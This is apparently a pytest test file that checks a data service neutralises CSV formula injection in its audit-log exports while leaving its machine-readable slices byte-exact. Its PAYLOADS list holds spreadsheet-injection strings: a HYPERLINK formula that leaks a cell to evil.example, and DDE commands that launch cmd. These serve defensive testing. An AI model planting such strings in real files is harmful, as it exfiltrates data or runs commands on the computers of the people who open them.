"""API8/CWE-1236: CSV cells a spreadsheet would run are neutralised where people open the CSV.

An attacker chooses text that lands in the audit log (a user name from their identity provider,
a purpose); an auditor exports the log as CSV and opens it in a spreadsheet. Cells starting with
``=``, ``+``, ``-``, ``@``, a tab or a carriage return get a leading quote (OWASP); numbers stay
numbers. Slices are data for machines: their CSV round-trips byte for byte (and matches the
manifest's hash), so it is not altered; see docs/security.md.
"""

from __future__ import annotations

import csv
import hashlib
import io
import json
from pathlib import Path
from typing import Any

import pandas as pd
import pytest
from fastapi.testclient import TestClient
from security_lab import bearer, lab_app, lab_config, load_samples, sample_rows

from audit.spreadsheet import neutralise

PAYLOADS = [
    '=HYPERLINK("http://evil.example/?"&A1,"open")',
    "+cmd|' /C calc'!A0",
    "-2+3+cmd|' /C calc'!A0",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "\t=1+1",
    "\r=1+1",
    "\uff1d1+1",
]


@pytest.mark.parametrize(
    ("cell", "expected"),
    [
        *[(p, "'" + p) for p in PAYLOADS],
        ("-3.2", "-3.2"),
        ("+1e5", "+1e5"),
        ("-0", "-0"),
        ("-", "'-"),
        ("-3.2.1", "'-3.2.1"),
        ("alice@aurora", "alice@aurora"),
        ("a=b", "a=b"),
        ("", ""),
        ("2026-12-02T03:00:00+00:00", "2026-12-02T03:00:00+00:00"),
    ],
)
def test_cells_are_neutralised_and_numbers_kept(cell: str, expected: str) -> None:
    """Formula triggers get a quote; numbers and ordinary text are untouched."""
    assert neutralise(cell) == expected


@pytest.fixture
def node(tmp_path: Path) -> Any:
    """A lab node on SQLite whose formula column holds formulas."""
    url = f"sqlite:///{tmp_path / 'store.db'}"
    rows = sample_rows()
    for row, payload in zip(rows, PAYLOADS, strict=False):
        row["formula"] = payload
    load_samples(url, "samples", rows)
    return lab_app(tmp_path / "node", lab_config(url, {"samples": "samples"}))


def test_audit_csv_export_neutralises_what_an_attacker_wrote(node: Any) -> None:
    """Purposes (and any text) chosen by an attacker reach the log; the CSV does not run them.
    (User names cannot start a cell: a principal's id begins with its issuer's namespace.)"""
    with TestClient(node) as client:
        for i, payload in enumerate(PAYLOADS):
            headers = bearer(node, user=f"attacker{i}")
            r = client.post(
                "/datasets/lab/samples/slice", json={"purpose": payload}, headers=headers
            )
            assert r.status_code == 403  # an unknown purpose: denied, and recorded
        auditor = bearer(node, roles=("auditor",))
        export = client.get("/audit/export", params={"format": "csv"}, headers=auditor)
        assert export.status_code == 200
        lines = client.get("/audit/export", params={"format": "jsonl"}, headers=auditor)
    rows = list(csv.reader(io.StringIO(export.text, newline="")))
    header, body = rows[0], rows[1:]
    cells = [c for row in body for c in row]
    for cell in cells:
        assert not cell or cell[0] not in "=+-@\t\r\uff1d" or _number(cell), cell
    purpose = header.index("purpose")
    denied = [row for row in body if row[purpose].startswith("'")]
    assert {row[purpose] for row in denied} >= {"'" + p for p in PAYLOADS}
    # JSON Lines is for machines: the values are kept exactly as recorded.
    recorded = {json.loads(x)["purpose"] for x in lines.text.splitlines() if x}
    assert set(PAYLOADS) <= recorded


def _number(cell: str) -> bool:
    try:
        float(cell)
    except ValueError:
        return False
    return True


def test_slice_csv_is_data_and_round_trips(node: Any) -> None:
    """A slice's CSV holds the stored text as it is (a machine format, hashed in its manifest)."""
    headers = bearer(node, user="reader")
    with TestClient(node) as client:
        r = client.get(
            "/datasets/lab/samples/slice",
            params={"purpose": "research", "columns": "sample_id,formula,band_gap_ev"},
            headers=headers,
        )
        assert r.status_code == 200
        manifest = client.get(f"/provenance/{r.headers['matgate-request-id']}", headers=headers)
    frame = pd.read_csv(io.BytesIO(r.content), keep_default_na=False)
    stored = {row["sample_id"]: row["formula"] for row in sample_rows()}
    for row, payload in zip(sample_rows(), PAYLOADS, strict=False):
        stored[row["sample_id"]] = payload
    assert dict(zip(frame["sample_id"], frame["formula"], strict=True)) == stored
    assert (frame["band_gap_ev"] > 0).all()
    assert manifest.status_code == 200, manifest.text
    assert manifest.json()["manifest"]["sha256"] == hashlib.sha256(r.content).hexdigest()
